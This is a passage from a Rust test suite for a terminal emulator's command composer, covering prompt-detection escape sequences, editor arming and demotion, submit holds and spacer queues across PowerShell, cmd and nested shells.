    let hex: String = r#"{"e":0,"n":1,"d":"C:"}"#
        .bytes()
        .map(|b| format!("{b:02x}"))
        .collect();
    let mut data = format!("\x1b]7717;0;pre;{hex}\x07").into_bytes();
    data.extend_from_slice(b"PS C:\\> ");
    data.extend_from_slice(b"\x1b]133;B\x07");
    b.advance_live(&data);
    assert!(b.cursor_at_prompt_end());
    b
}

#[test]
fn arms_immediately_without_settle() {
    assert_eq!(SETTLE, Duration::ZERO, "settle must be zero");
    let b = backend_at_clean_prompt();
    let mut st = ComposerState::default();
    let now = T0;
    let f = b.block_feed.as_ref().unwrap();
    st.on_stream_events(f.pre_seen, f.exec_seen, now);

    let recs: Vec<BlockRec> = Vec::new();
    st.tick(&b, &recs, true, true, now);
    assert_eq!(
        st.mode,
        ComposerMode::Compose,
        "composer must arm with zero settle delay"
    );
    assert!(st.want_focus, "must request focus to catch the first key");
}

fn hook_bytes(verb: &str, json: &str) -> Vec<u8> {
    let hex: String = json.bytes().map(|b| format!("{b:02x}")).collect();
    format!("\x1b]7717;0;{verb};{hex}\x07").into_bytes()
}

#[test]
fn heur_latch_lifecycle() {
    let (mut b, mut st, recs, t0) = heur_episode_setup();

    let wake = st.tick(&b, &recs, true, true, t0);
    assert!(!st.heur_live(&b));
    assert_eq!(st.mode, ComposerMode::Raw(RawReason::Busy));
    assert!(wake.is_some(), "pending mint must schedule a wakeup");

    let t1 = t0 + HEUR_QUIET + Duration::from_millis(100);
    st.tick(&b, &recs, true, true, t1);
    assert!(st.heur_live(&b));
    assert_eq!(st.mode, ComposerMode::Compose, "AutoArm through the arming gate");
    assert!(st.want_focus, "grid had focus ⇒ editor takes it");
    assert!(!st.episode_used, "a mint opens a fresh prompt episode");

    assert_eq!(
        cover_line_for(&st, &b, true, t1),
        Some(b.cursor_line()),
        "heuristic cell feeds the armed cover"
    );

    b.advance_live(b"x");
    assert!(!st.heur_live(&b), "output burst disarms instantly");
    assert_eq!(cover_line_for(&st, &b, true, t1), None, "cover drops with it");

    let t2 = t1 + HEUR_QUIET + Duration::from_millis(200);
    st.tick(&b, &recs, true, true, t2);
    assert!(!st.heur_live(&b), "dirty prompt never arms");

    b.advance_live(b"\r\nroot@box:/# ");
    let t3 = t2 + HEUR_QUIET + Duration::from_millis(500);
    st.tick(&b, &recs, true, true, t3);
    assert!(st.heur_live(&b), "fresh clean prompt re-mints");

    st.on_stream_events(2, 1, t3);
    assert!(!st.heur_live(&b));
    assert!(!st.heur_episode, "marker edge closes the episode");
    assert!(st.at_prompt_latched(), "the real latch takes over");

    let (b2, mut st2, _, t0b) = heur_episode_setup();
    let busy = vec![BlockRec {
        epoch: 1,
        n: 0,
        cmd: "cargo build".into(),
        cwd: None,
        exit: None,
        started_ms: 0,
        ended_ms: None,
        start_off: 0,
        end_off: None,
        truncated: false,
            nested_shell: false,
    }];
    let t1b = t0b + HEUR_QUIET + Duration::from_millis(100);
    st2.tick(&b2, &busy, true, true, t1b);
    assert!(
        !st2.heur_live(&b2),
        "detection is scoped to classified nested-shell episodes"
    );
    assert_eq!(st2.mode, ComposerMode::Raw(RawReason::Busy));
}

#[test]
fn heur_submit_routes_ledger() {
    let (b, mut st, recs, t0) = heur_episode_setup();
    let t1 = t0 + HEUR_QUIET + Duration::from_millis(100);
    st.tick(&b, &recs, true, true, t1);
    assert_eq!(st.mode, ComposerMode::Compose);
    let cover = cover_line_for(&st, &b, true, t1);
    assert!(cover.is_some());
    let heur_col = b.cursor_col();

    let (bytes, spacer) = st.dispatch_submission(&b, cover, None, "a\nb", t1);
    assert!(bytes.is_empty() && !spacer);
    assert_eq!(st.draft, "a\nb", "multi-line restored to the visible draft");
    assert!(st.take_submit_cmd().is_none());
    assert!(st.post_submit.is_none(), "no window for a refused dispatch");
    st.draft.clear();

    let (bytes, spacer) = st.dispatch_submission(&b, cover, Some("/"), "whoami", t1);
    assert!(bytes.is_empty(), "GUI ships zero PTY bytes — the daemon writes");
    assert!(!spacer);
    assert_eq!(st.take_submit_cmd().as_deref(), Some("whoami"));
    let h = st.submit_hold.as_ref().expect("hold pinned");
    assert_eq!(h.line, cover.unwrap(), "hold pinned at the heuristic row");
    assert_eq!(h.col, heur_col, "hold column = the latched cursor cell");
    let w = st.post_submit.expect("window open");
    assert!(w.heur, "the window resolves heuristically");
    assert_eq!(st.mode, ComposerMode::Compose, "submit never yields raw");

    st.submit_hold = None;
    let (bytes, spacer) = st.dispatch_submission(&b, cover, None, "", t1);
    assert_eq!(bytes, b"\r");
    assert!(spacer);
    assert!(st.take_submit_cmd().is_none(), "a blank line is not a command");
    assert!(st.submit_hold.is_none());
}

#[test]
fn heur_post_submit_resolution() {
    let (mut b, mut st, recs, t0) = heur_episode_setup();
    let t1 = t0 + HEUR_QUIET + Duration::from_millis(100);
    st.tick(&b, &recs, true, true, t1);
    let cover = cover_line_for(&st, &b, true, t1);
    let _ = st.dispatch_submission(&b, cover, None, "whoami", t1);
    assert!(st.post_submit.is_some());

    b.advance_live(b"whoami\r\nroot\r\n");
    assert!(!st.heur_live(&b));

    st.draft = "id".into();

    st.tick(&b, &recs, true, true, t1 + Duration::from_millis(350));
    assert_eq!(st.mode, ComposerMode::Compose);
    assert!(st.post_submit.is_some(), "heuristic window outlives 300ms");
    assert_eq!(st.draft, "id");

    b.advance_live(b"root@box:/# ");
    let t2 = t1 + Duration::from_millis(800);
    st.tick(&b, &recs, true, true, t2);
    assert!(st.heur_live(&b));
    assert!(st.post_submit.is_none(), "fresh latch closes the window");
    assert_eq!(st.mode, ComposerMode::Compose);
    assert_eq!(st.draft, "id", "draft survives the resolution");
    assert!(st.take_pending_clear().is_none(), "nothing flushed");

    let (mut b, mut st, recs, t0) = heur_episode_setup();
    let t1 = t0 + HEUR_QUIET + Duration::from_millis(100);
    st.tick(&b, &recs, true, true, t1);
    let cover = cover_line_for(&st, &b, true, t1);
    let _ = st.dispatch_submission(&b, cover, None, "sleep 100", t1);
    b.advance_live(b"sleep 100\r\n");
    st.draft = "id2".into();
    let late = t1 + HEUR_FLUSH + Duration::from_millis(10);
    st.tick(&b, &recs, true, true, late);
    assert_eq!(
        st.mode,
        ComposerMode::Compose,
        "the heuristic threshold does not yield the editor"
    );
    assert!(st.post_submit.is_none(), "window closed at HEUR_FLUSH");
    assert!(
        st.take_pending_clear().is_none(),
        "buffered typing never flushes raw"
    );
    assert_eq!(st.draft, "id2", "typing stays visible in the draft");
}

#[test]
fn heur_handback() {
    let (mut b, mut st, recs, t0) = heur_episode_setup();
    let t1 = t0 + HEUR_QUIET + Duration::from_millis(100);
    st.tick(&b, &recs, true, true, t1);
    assert_eq!(st.mode, ComposerMode::Compose);
    st.has_focus = true;

    b.advance_live(b"exit\r\n");
    let mut frame = hook_bytes("pre", r#"{"e":0,"n":3,"d":"C:"}"#);
    frame.extend_from_slice(b"PS C:\\> ");
    frame.extend_from_slice(b"\x1b]133;B\x07");
    b.advance_live(&frame);
    let t2 = t1 + Duration::from_millis(50);
    pump_counters(&mut st, &b, t2);
    assert!(!st.heur_episode, "the pre edge closes the episode");
    assert!(!st.heur_live(&b));
    assert!(st.at_prompt_latched(), "the real latch takes over");
    assert_eq!(
        st.mode,
        ComposerMode::Compose,
        "no mode flap through the hand-back"
    );

    assert!(b.cursor_at_prompt_end());
    st.tick(&b, &recs, true, true, t2 + Duration::from_millis(16));
    assert_eq!(st.mode, ComposerMode::Compose);
}

#[test]
fn heur_activate_never_chords() {
    let (b, mut st, recs, t0) = heur_episode_setup();
    let t1 = t0 + HEUR_QUIET + Duration::from_millis(100);
    st.tick(&b, &recs, true, true, t1);
    assert_eq!(st.mode, ComposerMode::Compose);

    st.blur_to_grid();
    assert_eq!(st.mode, ComposerMode::Raw(RawReason::UserRaw));
    assert!(st.episode_used);
    st.tick(&b, &recs, true, true, t1 + Duration::from_millis(16));
    assert_eq!(
        st.mode,
        ComposerMode::Raw(RawReason::UserRaw),
        "a used episode must not auto-re-arm"
    );

    assert!(!b.cursor_at_prompt_end(), "no 133;B certainty exists here");
    let bytes = st.activate(&b);
    assert!(bytes.is_empty(), "never a chord at an uncertain prompt");
    assert_eq!(st.mode, ComposerMode::Compose);
    assert!(st.draft.is_empty(), "nothing reclaimed");
}

#[test]
fn activate_chord_once_per_prompt_epoch() {
    let mut b = backend_at_clean_prompt();
    b.advance_live(b"junk");
    assert!(!b.cursor_at_prompt_end());
    let mut st = ComposerState::default();
    let chord = st.activate(&b);
    assert!(!chord.is_empty(), "first activation ships the clear chord");
    assert_eq!(st.draft, "junk", "reclaimable text pulled into the draft");

    st.mode = ComposerMode::Raw(RawReason::UserRaw);
    assert!(
        st.activate(&b).is_empty(),
        "one clear attempt per prompt epoch"
    );
    assert_eq!(st.draft, "junk", "no duplicate reclaim");

    b.advance_live(&hook_bytes("pre", r#"{"e":130,"n":2,"d":"C:"}"#));
    b.advance_live(b"PS C:\\> \x1b]133;B\x07");
    b.advance_live(b"junk2");
    st.mode = ComposerMode::Raw(RawReason::UserRaw);
    assert!(
        !st.activate(&b).is_empty(),
        "a fresh prompt epoch re-arms the chord"
    );
}

#[test]
fn activate_never_chords_a_col0_capture() {
    let mut b = Rig::plain();
    b.enable_block_scan();

    b.advance_live(b"\x1b]133;B\x07");
    b.advance_live(b"[zany@MSI zany]$ ");
    assert!(!b.cursor_at_prompt_end());
    let mut st = ComposerState::default();
    assert!(
        st.activate(&b).is_empty(),
        "no chord may ship for a col-0 capture"
    );
    assert_eq!(
        st.draft, "",
        "the prompt string must never be reclaimed as typed input"
    );
    assert_eq!(st.mode, ComposerMode::Compose);
}

#[test]
fn compose_demotes_after_sustained_certainty_loss() {
    let mut b = backend_at_clean_prompt();
    let now = T0;
    let recs: Vec<BlockRec> = Vec::new();
    let mut st = ComposerState::default();
    pump_counters(&mut st, &b, now);
    st.tick(&b, &recs, true, true, now);
    assert_eq!(st.mode, ComposerMode::Compose);
    st.draft = "keep me".into();

    b.advance_live(b"stray");
    assert!(!b.cursor_at_prompt_end());

    let wake = st.tick(&b, &recs, true, true, now);
    assert_eq!(st.mode, ComposerMode::Compose, "no instant demotion");
    assert!(
        wake.is_some_and(|w| w <= now + DEMOTE),
        "a pending demotion must schedule its own wakeup (idle terminals repaint rarely)"
    );
    st.tick(&b, &recs, true, true, now + DEMOTE - Duration::from_millis(10));
    assert_eq!(st.mode, ComposerMode::Compose);

    st.tick(&b, &recs, true, true, now + DEMOTE);
    assert_eq!(
        st.mode,
        ComposerMode::Raw(RawReason::NoPrompt),
        "sustained certainty loss steps Compose down to Raw"
    );
    assert_eq!(st.draft, "keep me", "demotion never destroys the draft");
    assert!(!st.episode_used);
}

#[test]
fn compose_survives_certainty_blip_that_heals() {
    let mut b = backend_at_clean_prompt();
    let now = T0;
    let recs: Vec<BlockRec> = Vec::new();
    let mut st = ComposerState::default();
    pump_counters(&mut st, &b, now);
    st.tick(&b, &recs, true, true, now);
    assert_eq!(st.mode, ComposerMode::Compose);

    b.advance_live(b"x");
    st.tick(&b, &recs, true, true, now + Duration::from_millis(100));
    assert_eq!(st.mode, ComposerMode::Compose);

    let mut frame = hook_bytes("pre", r#"{"e":0,"n":2,"d":"C:"}"#);
    frame.extend_from_slice(b"\r\nPS C:\\> ");
    frame.extend_from_slice(b"\x1b]133;B\x07");
    b.advance_live(&frame);
    pump_counters(&mut st, &b, now + Duration::from_millis(200));
    assert!(b.cursor_at_prompt_end());

    st.tick(&b, &recs, true, true, now + DEMOTE + Duration::from_millis(200));
    assert_eq!(
        st.mode,
        ComposerMode::Compose,
        "a healed blip must never demote later"
    );
}

#[test]
fn held_enter_paces_spacers_and_never_leaves_compose() {
    let mut b = backend_at_clean_prompt();
    let now = T0;
    let recs: Vec<BlockRec> = Vec::new();
    let mut st = ComposerState::default();
    pump_counters(&mut st, &b, now);
    st.tick(&b, &recs, true, true, now);
    assert_eq!(st.mode, ComposerMode::Compose);

    let mut dispatched = 0u32;
    let mut t = now;
    for burst in 0..50 {
        for _ in 0..3 {
            st.push_spacer();
        }
        assert!(
            st.pending.len() <= SPACER_QUEUE_CAP,
            "consecutive spacers must coalesce at the cap"
        );
        t += Duration::from_millis(33);
        st.tick(&b, &recs, true, true, t);
        if let Some((bytes, spacer)) = st.pump_pending(&b, None, None, t) {
            assert_eq!(bytes, b"\r");
            assert!(spacer);
            dispatched += 1;

            let json = format!(r#"{{"e":0,"n":{},"d":"C:"}}"#, burst + 10);
            let mut frame = hook_bytes("pre", &json);
            frame.extend_from_slice(b"\r\nPS C:\\> ");
            frame.extend_from_slice(b"\x1b]133;B\x07");
            b.advance_live(&frame);
            pump_counters(&mut st, &b, t);
        }
        st.tick(&b, &recs, true, true, t);
        assert_eq!(
            st.mode,
            ComposerMode::Compose,
            "held Enter must NEVER drop the composer to raw (burst {burst})"
        );
    }
    assert!(
        dispatched >= 10,
        "paced dispatch must make progress at prompt-render pace (got {dispatched})"
    );

    for _ in 0..10 {
        t += Duration::from_millis(50);
        st.tick(&b, &recs, true, true, t);
        if st.pump_pending(&b, None, None, t).is_some() {
            let mut frame = hook_bytes("pre", r#"{"e":0,"n":99,"d":"C:"}"#);
            frame.extend_from_slice(b"\r\nPS C:\\> ");
            frame.extend_from_slice(b"\x1b]133;B\x07");
            b.advance_live(&frame);
            pump_counters(&mut st, &b, t);
        }
        st.tick(&b, &recs, true, true, t);
    }
    assert!(st.pending.is_empty(), "queue fully drained after release");
    assert_eq!(st.mode, ComposerMode::Compose, "armed lane survives the hold");
    assert!(b.cursor_at_prompt_end(), "clean prompt state after release");
}

#[test]
fn spacer_queue_abandons_when_shell_stops_prompting() {
    let b = backend_at_clean_prompt();
    let now = T0;
    let recs: Vec<BlockRec> = Vec::new();
    let mut st = ComposerState::default();
    pump_counters(&mut st, &b, now);
    st.tick(&b, &recs, true, true, now);
    for _ in 0..3 {
        st.push_spacer();
    }
    assert!(
        st.pump_pending(&b, None, None, now).is_some(),
        "first \\r goes immediately"
    );

    assert!(st.pump_pending(&b, None, None, now + Duration::from_millis(100)).is_none());
    let late = now + POST_SUBMIT_FLUSH + Duration::from_millis(50);
    st.tick(&b, &recs, true, true, late);
    assert!(st.pending.is_empty(), "abandoned queue");
    assert!(st.take_pending_clear().is_none(), "spacers are never blind-fired");
    assert_eq!(st.mode, ComposerMode::Compose, "abandon is not a yield");
    assert!(
        st.pump_pending(&b, None, None, late + Duration::from_millis(50)).is_none(),
        "nothing left to send"
    );
}

#[test]
fn demote_clock_never_leaks_across_episodes() {
    let mut b = backend_at_clean_prompt();
    let now = T0;
    let recs: Vec<BlockRec> = Vec::new();
    let mut st = ComposerState::default();
    pump_counters(&mut st, &b, now);
    st.tick(&b, &recs, true, true, now);
    b.advance_live(b"stray");
    st.tick(&b, &recs, true, true, now);
    st.tick(&b, &recs, true, true, now + DEMOTE);
    assert_eq!(st.mode, ComposerMode::Raw(RawReason::NoPrompt));

    let mut frame = hook_bytes("pre", r#"{"e":0,"n":3,"d":"C:"}"#);
    frame.extend_from_slice(b"\r\nPS C:\\> ");
    frame.extend_from_slice(b"\x1b]133;B\x07");
    b.advance_live(&frame);
    let t1 = now + DEMOTE + Duration::from_millis(100);
    pump_counters(&mut st, &b, t1);
    st.tick(&b, &recs, true, true, t1);
    assert_eq!(st.mode, ComposerMode::Compose, "fresh latch re-arms");
    b.advance_live(b"y");
    st.tick(&b, &recs, true, true, t1 + Duration::from_millis(10));
    assert_eq!(
        st.mode,
        ComposerMode::Compose,
        "a stale clock from the previous episode must not instant-demote"
    );
}

fn pump_counters(st: &mut ComposerState, b: &TermBackend, now: Instant) {
    let f = b.block_feed.as_ref().unwrap();
    st.on_stream_events(f.pre_seen, f.exec_seen, now);
}

#[test]
fn hold_survives_exec_hook_before_echo() {
    let mut b = backend_at_clean_prompt();
    let now = T0;
    let recs: Vec<BlockRec> = Vec::new();
    let mut st = ComposerState::default();
    pump_counters(&mut st, &b, now);
    st.mode = ComposerMode::Compose;
    st.draft = "echo hi".into();
    let (bytes, _) = st.submit(&b, cover_line_for(&st, &b, true, now), Some("C:\\"), T0);
    assert_eq!(bytes, b"echo hi\r");
    assert_eq!(st.hold_line(&b, now), Some(0), "hold pinned to the prompt row");

    b.advance_live(&hook_bytes("exec", r#"{"c":"echo hi"}"#));
    pump_counters(&mut st, &b, now);
    st.tick(&b, &recs, true, false, now);
    assert_eq!(
        st.hold_line(&b, now),
        Some(0),
        "exec hook alone must NOT release: the row under the cover is still bare"
    );

    b.advance_live(b"ec");
    st.tick(&b, &recs, true, false, now);
    assert_eq!(st.hold_line(&b, now), Some(0), "partial echo must keep the hold");

    b.advance_live(b"ho hi");
    st.tick(&b, &recs, true, false, now);
    assert_eq!(st.hold_line(&b, now), None, "echo landing releases the hold");
}

#[test]
fn submit_hold_backstops() {
    let now = T0;
    let recs: Vec<BlockRec> = Vec::new();

    let mut b = backend_at_clean_prompt();
    let mut st = ComposerState::default();
    pump_counters(&mut st, &b, now);
    st.mode = ComposerMode::Compose;
    st.draft = "cls".into();
    let _ = st.submit(&b, Some(0), None, T0);
    assert_eq!(st.hold_line(&b, now), Some(0));
    b.advance_live(b"\r\n");
    st.tick(&b, &recs, true, false, now);
    assert_eq!(st.hold_line(&b, now), None, "cursor below the row releases");

    let mut b = Rig::new(40, 4);
    b.advance(b"a\r\nb\r\nc\r\nPS> ");
    let mut st = ComposerState::default();
    st.on_stream_events(1, 0, now);
    st.mode = ComposerMode::Compose;
    st.draft = "quux".into();
    let _ = st.submit(&b, Some(3), None, T0);
    assert_eq!(st.hold_line(&b, now), Some(3));
    b.advance(b"\r\nout");
    assert!(b.history_size() > 0, "test must actually scroll");
    st.tick(&b, &recs, true, false, now);
    assert_eq!(st.hold_line(&b, now), None, "grid scroll releases");

    let b = backend_at_clean_prompt();
    let mut st = ComposerState::default();
    pump_counters(&mut st, &b, now);
    st.mode = ComposerMode::Compose;
    st.draft = "slow".into();
    let _ = st.submit(&b, Some(0), None, T0);
    assert_eq!(st.hold_line(&b, now), Some(0));

    let later = T0 + SUBMIT_HOLD_MAX + Duration::from_millis(1);
    assert_eq!(st.hold_line(&b, later), None, "hold expires at the cap");

    let bb = Rig::plain();
    let mut st = ComposerState::default();
    st.on_stream_events(1, 0, now);
    st.mode = ComposerMode::Compose;
    st.draft = "x".into();
    let _ = st.submit(&bb, None, None, T0);
    assert_eq!(st.hold_line(&bb, now), None);
}

#[test]
fn cmd_submission_routes_to_ledger() {
    let b = backend_at_clean_prompt();
    let now = T0;
    let mut st = ComposerState {
        is_cmd: true,
        ..Default::default()
    };
    pump_counters(&mut st, &b, now);
    st.mode = ComposerMode::Compose;
    st.draft = "dir".into();
    let (bytes, spacer) = st.submit(&b, Some(0), Some("C:\\"), T0);
    assert!(bytes.is_empty(), "cmd submission must carry no PTY bytes");
    assert!(!spacer);
    assert_eq!(st.take_submit_cmd().as_deref(), Some("dir"));
    assert!(st.take_submit_cmd().is_none(), "the outbox drains once");
    assert!(st.buffering(), "the typeahead window opens exactly like pwsh");
    assert_eq!(st.hold_line(&b, now), Some(0), "SubmitHold pins the cover");
    assert_eq!(st.mode, ComposerMode::Compose);
}

#[test]
fn cmd_spacer_and_multiline_rules() {
    let b = backend_at_clean_prompt();
    let mut st = ComposerState {
        is_cmd: true,
        ..Default::default()
    };
    pump_counters(&mut st, &b, T0);
    st.mode = ComposerMode::Compose;
    let (bytes, spacer) = st.submit(&b, Some(0), None, T0);
    assert_eq!(bytes, b"\r", "spacer = bare Enter, never a record");
    assert!(spacer);
    assert!(st.take_submit_cmd().is_none());
    st.post_submit = None;
    st.draft = "cd \\\ndir".into();
    let (bytes, spacer) = st.submit(&b, Some(0), None, T0);
    assert!(bytes.is_empty() && !spacer);
    assert!(st.take_submit_cmd().is_none());
    assert_eq!(
        st.draft, "cd \\\ndir",
        "the refused multi-line submission returns to the draft"
    );
    assert!(
        st.post_submit.is_none(),
        "a refused dispatch must not open a submit window"
    );
}

#[test]
fn a_refused_text_keeps_what_was_typed_since() {
    let b = backend_at_clean_prompt();
    let mut st = ComposerState { is_cmd: true, ..Default::default() };
    pump_counters(&mut st, &b, T0);
    st.mode = ComposerMode::Compose;
    st.draft = "c".into();
    let (bytes, spacer) = st.dispatch_submission(&b, Some(0), None, "a\nb", T0);
    assert!(bytes.is_empty() && !spacer);
    assert_eq!(st.draft, "a\nb\nc");
    assert!(st.take_submit_cmd().is_none() && st.post_submit.is_none());
    // So does one that was queued.
    st.pending.push_back("x\ny".into());
    st.draft = "z".into();
    let r = st.pump_pending(&b, Some(0), None, T0);
    assert_eq!(r, Some((Vec::new(), false)));
    assert_eq!(st.draft, "x\ny\nz");
    assert!(!st.buffering());
    // Closing a search that was open loses neither.
    st.draft = "kept".into();
    st.search_begin();
    st.draft = "query".into();
    let _ = st.dispatch_submission(&b, None, None, "a\nb", T0);
    st.search_cancel();
    assert_eq!(st.draft, "a\nb\nkept");
    // In an editor that was closed, it opens where the text can be seen.
    st.mode = ComposerMode::Raw(RawReason::NoPrompt);
    st.draft = "a\nb".into();
    let _ = st.submit(&b, None, None, T0);
    assert_eq!(st.draft, "a\nb");
    assert_eq!(st.mode, ComposerMode::Compose);
}

#[test]
fn a_queue_outlives_an_open_search() {
    let b = backend_at_clean_prompt();
    let mut st = ComposerState { mode: ComposerMode::Compose, ..Default::default() };
    st.draft = "kept".into();
    st.search_begin();
    st.draft = "query".into();
    st.pending.push_back("one".into());
    st.pending.push_back(String::new());
    st.pending.push_back("two".into());
    st.on_exited();
    st.tick(&b, &[], false, false, T0);
    assert!(!st.search_active() && !st.buffering());
    assert_eq!(st.draft, "one\ntwo\nkept");
}

#[test]
fn cmd_line_clear_chord_is_escape() {
    let mut b = backend_at_clean_prompt();
    b.advance_live(b"di");
    assert!(!b.cursor_at_prompt_end());
    let mut st = ComposerState {
        is_cmd: true,
        ..Default::default()
    };
    assert_eq!(st.activate(&b), vec![0x1b], "VT mode: bare ESC");
    b.set_win32();
    let mut st = ComposerState {
        is_cmd: true,
        ..Default::default()
    };
    assert_eq!(
        st.activate(&b),
        ESCAPE_RECORD
    );
    let mut st = ComposerState::default();
    assert_eq!(
        st.activate(&b),
        CTRL_C_RECORD,
        "non-cmd families keep Ctrl+C"
    );
}

#[test]
fn cover_gate_includes_submit_hold() {
    let b = backend_at_clean_prompt();
    let now = T0;
    let mut st = ComposerState::default();
    pump_counters(&mut st, &b, now);
    st.mode = ComposerMode::Compose;

    assert_eq!(cover_line_for(&st, &b, true, now), Some(0));

    assert_eq!(cover_line_for(&st, &b, false, now), None);

    st.draft = "echo hi".into();
    let cl = cover_line_for(&st, &b, true, now);
    let _ = st.submit(&b, cl, Some("C:\\"), T0);
    assert_eq!(st.mode, ComposerMode::Compose);
    assert_eq!(
        cover_line_for(&st, &b, false, now),
        Some(0),
        "a live SubmitHold must keep the cover regardless of mode"
    );

    let later = T0 + SUBMIT_HOLD_MAX + Duration::from_millis(1);
    assert_eq!(cover_line_for(&st, &b, false, later), None);
}

#[test]
fn empty_draft_submit_sends_cr_and_flags_spacer() {
    let b = backend_at_clean_prompt();
    let now = T0;
    for draft in ["", "   ", "\n", " \r\n "] {
        let mut st = ComposerState::default();
        pump_counters(&mut st, &b, now);
        st.mode = ComposerMode::Compose;
        st.draft = draft.into();
        let (bytes, spacer) = st.submit(&b, Some(0), Some("C:\\"), T0);
        assert_eq!(bytes, b"\r", "spacing gesture sends a bare CR ({draft:?})");
        assert!(spacer, "empty submit flags the spacer gesture ({draft:?})");
        assert_eq!(st.hold_line(&b, now), None, "no ghost hold for the gesture");
        assert_eq!(st.mode, ComposerMode::Compose);
        assert!(st.buffering());
    }
}

#[test]
fn released_hold_converts_to_history_cover() {
    let recs: Vec<BlockRec> = Vec::new();
    let now = T0;

    let mut b = backend_at_clean_prompt();
    let mut st = ComposerState::default();
    pump_counters(&mut st, &b, now);
    st.mode = ComposerMode::Compose;
    st.draft = "echo hi".into();
    let _ = st.submit(&b, cover_line_for(&st, &b, true, now), Some("C:\\"), T0);
    b.advance_live(b"echo hi");
    st.tick(&b, &recs, true, false, now);
    assert_eq!(st.hold_line(&b, now), None, "echo landed ⇒ released");
    assert_eq!(
        st.take_pending_history_cover(),
        Some((0, 8, Some("C:\\".to_string()), "echo hi".to_string())),
        "grid-verified single-line command converts to a history cover"
    );

    let b = backend_at_clean_prompt();
    let mut st = ComposerState::default();
    pump_counters(&mut st, &b, now);
    st.mode = ComposerMode::Compose;
    st.draft = "never echoed".into();
    let _ = st.submit(&b, Some(0), Some("C:\\"), T0);
    let later = T0 + SUBMIT_HOLD_MAX + Duration::from_millis(1);
    st.tick(&b, &recs, true, false, later);
    assert_eq!(st.hold_line(&b, later), None);
    assert_eq!(
        st.take_pending_history_cover(),
        None,
        "an unverifiable cap release must not fabricate a history cover"
    );

    let mut b = backend_at_clean_prompt();
    let mut st = ComposerState::default();
    pump_counters(&mut st, &b, now);
    st.mode = ComposerMode::Compose;
    st.draft = "line1\nline2".into();
    let _ = st.submit(&b, Some(0), Some("C:\\"), T0);
    b.advance_live(b"line1");
    st.tick(&b, &recs, true, false, now);
    assert_eq!(
        st.take_pending_history_cover(),
        None,
        "multi-line submissions are not converted to history covers"
    );
}

#[test]
fn cold_attach_prompt_state_arms() {
    let recs: Vec<BlockRec> = Vec::new();
    let now = T0;

    let seeded = |tail: &[u8], pe: usize| {
        let mut b = Rig::plain();
        b.enable_block_scan();
        b.advance(tail);
        b.seed_prompt_end(0, pe);
        b
    };

    let b = seeded(b"PS C:\\> ", 8);
    let mut st = ComposerState::default();
    st.on_attach_prompt(now);
    assert!(st.at_prompt_latched());
    st.tick(&b, &recs, true, true, now);
    assert_eq!(st.mode, ComposerMode::Compose, "clean cold-attach auto-arms");

    let b = seeded(b"PS C:\\> ls", 8);
    let mut st = ComposerState::default();
    st.on_attach_prompt(now);
    st.tick(&b, &recs, true, true, now);
    assert_eq!(
        st.mode,
        ComposerMode::Raw(RawReason::NoPrompt),
        "a dirty cold-attach stays manual-arm"
    );

    let b = seeded(b"PS C:\\> ", 8);
    let mut st = ComposerState::default();
    let open = vec![BlockRec {
        end_off: None,
        ..rec("codex")
    }];
    st.tick(&b, &open, true, true, now);
    assert_ne!(st.mode, ComposerMode::Compose, "an open block blocks arming");
}

#[test]
fn raw_key_at_prompt_stays_manual_no_auto_chord() {
    let recs: Vec<BlockRec> = Vec::new();
    let now = T0;

    let mut b = backend_at_clean_prompt();
    b.advance_live(b"l");
    assert!(!b.cursor_at_prompt_end(), "cursor is now dirty (echo)");

    let mut st = ComposerState::default();
    pump_counters(&mut st, &b, now);
    assert_eq!(st.mode, ComposerMode::Raw(RawReason::NoPrompt));
    st.on_raw_input(now);
    assert!(st.episode_used);

    for dt in [0u64, 100, 500, 1000] {
        st.tick(&b, &recs, true, true, now + Duration::from_millis(dt));
        assert_eq!(
            st.mode,
            ComposerMode::Raw(RawReason::NoPrompt),
            "raw typing at a prompt is honoured — never auto-reclaimed (+{dt}ms)"
        );
        assert!(
            st.take_pending_clear().is_none(),
            "NO automatic clear chord may ever fire (+{dt}ms)"
        );
    }
    assert!(st.episode_used, "the episode stays spent");

    let bytes = st.activate(&b);
    assert_eq!(bytes, vec![0x03], "chord ships only on the explicit click");
    assert_eq!(st.draft, "l", "the typed text is reclaimed into the draft");
    assert_eq!(st.mode, ComposerMode::Compose);

    let mut st = ComposerState::default();
    pump_counters(&mut st, &b, now);
    st.mode = ComposerMode::Compose;
    st.blur_to_grid();
    assert_eq!(st.mode, ComposerMode::Raw(RawReason::UserRaw));
    st.on_raw_input(now);
    st.tick(&b, &recs, true, true, now);
    assert_eq!(
        st.mode,
        ComposerMode::Raw(RawReason::UserRaw),
        "a deliberate yield is never reclaimed"
    );
    assert!(st.take_pending_clear().is_none());
}

#[test]
fn cold_attach_cover_survives_corrective_strip_resize() {
    let recs: Vec<BlockRec> = Vec::new();
    let now = T0;
    let mut b = Rig::new(80, 24);
    b.enable_block_scan();
    b.advance(b"line1\r\nline2\r\nPS C:\\> ");
    b.seed_prompt_end(2, 8);
    let mut st = ComposerState::default();
    st.on_attach_prompt(now);
    st.tick(&b, &recs, true, true, now);
    assert_eq!(st.mode, ComposerMode::Compose, "cold attach arms");
    assert_eq!(
        cover_line_for(&st, &b, true, now),
        Some(2),
        "cover on before the corrective resize"
    );

    b.resize_to(80, 22);
    assert!(
        cover_line_for(&st, &b, true, now).is_some(),
        "the corrective strip-resize wiped the cold-attach seed → cover dropped to the strip"
    );
}

#[test]
fn pointer_never_disarms_blur_consumes_episode() {
    let b = backend_at_clean_prompt();
    let now = T0;
    let recs: Vec<BlockRec> = Vec::new();
    let mut st = ComposerState::default();
    let f = b.block_feed.as_ref().unwrap();
    let (pre0, exec0) = (f.pre_seen, f.exec_seen);
    st.on_stream_events(pre0, exec0, now);
    st.tick(&b, &recs, true, true, now);
    assert_eq!(st.mode, ComposerMode::Compose);
    st.draft = "half-written".into();

    for _ in 0..3 {
        st.tick(&b, &recs, true, false, now);
    }
    assert_eq!(st.mode, ComposerMode::Compose);
    assert_eq!(st.draft, "half-written");
    assert!(st.at_prompt_latched());

    st.blur_to_grid();
    assert_eq!(st.mode, ComposerMode::Raw(RawReason::UserRaw));
    st.tick(&b, &recs, true, true, now);
    assert_eq!(st.mode, ComposerMode::Raw(RawReason::UserRaw));
    assert_eq!(st.draft, "half-written", "draft survives the blur");

    st.on_stream_events(pre0 + 1, exec0, now);
    st.tick(&b, &recs, true, true, now);
    assert_eq!(st.mode, ComposerMode::Compose);
}

#[test]
fn activate_reclaims_into_empty_draft() {
    let mut b = backend_at_clean_prompt();
    b.advance_live(b"dir /w");
    assert!(!b.cursor_at_prompt_end());
    let mut st = ComposerState::default();
    let now = T0;
